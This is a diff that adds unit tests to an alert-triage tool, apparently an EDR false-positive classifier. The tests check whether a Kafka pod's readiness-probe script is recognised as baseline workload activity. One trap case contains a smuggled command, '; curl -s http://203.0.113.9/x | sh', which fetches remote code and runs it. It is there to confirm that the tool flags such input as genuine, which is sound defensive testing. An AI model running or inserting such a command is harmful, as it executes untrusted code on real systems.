@@ -109,3 +109,32 @@ describe('attack indicators: an EDR title naming an interactive shell in a conta
     expect(indicatorsIn('title', title).map((i) => i.id)).toContain('reverse-shell-traffic');
   });
 });
+
+describe('workload-baseline: an exec probe script started by path runs under its #! interpreter', () => {
+  const broker = pod('events-dual-role-0', {
+    namespace: 'kafka',
+    node: N,
+    ip: '100.112.0.60',
+    owner: { kind: 'StrimziPodSet', name: 'events-dual-role' },
+    containers: [
+      {
+        name: 'kafka',
+        image: 'quay.io/strimzi/kafka:0.41.0-kafka-3.7.0',
+        command: ['/opt/kafka/kafka_run.sh'],
+        readinessProbe: { exec: { command: ['/opt/kafka/kafka_readiness.sh'] } },
+      },
+    ],
+  });
+  const idx = indexOf([node(N, '172.20.71.203'), broker]);
+  const runc = { name: 'runc', path: '/usr/bin/runc', commandLine: 'runc --root /run/containerd/runc/k8s.io exec --process /tmp/runc-process1 --detach abc' };
+  const run = (commandLine: string) => triageAlert(alert({ host: N, process: { name: 'bash', commandLine }, ancestors: [runc], container: inPod(broker) }), { index: idx });
+  it('/bin/bash /opt/kafka/kafka_readiness.sh is the readiness probe', () => {
+    expect(run('/bin/bash /opt/kafka/kafka_readiness.sh').verdict).toMatchObject({ label: 'likely-false-positive', cause: 'workload-baseline' });
+  });
+  it('trap: a script of the same name elsewhere is another program', () => {
+    expect(run('/bin/bash /tmp/kafka_readiness.sh').verdict.label).toBe('genuine');
+  });
+  it('trap: extra words after the probe are not the probe', () => {
+    expect(run('/bin/bash /opt/kafka/kafka_readiness.sh; curl -s http://203.0.113.9/x | sh').verdict.label).toBe('genuine');
+  });
+});
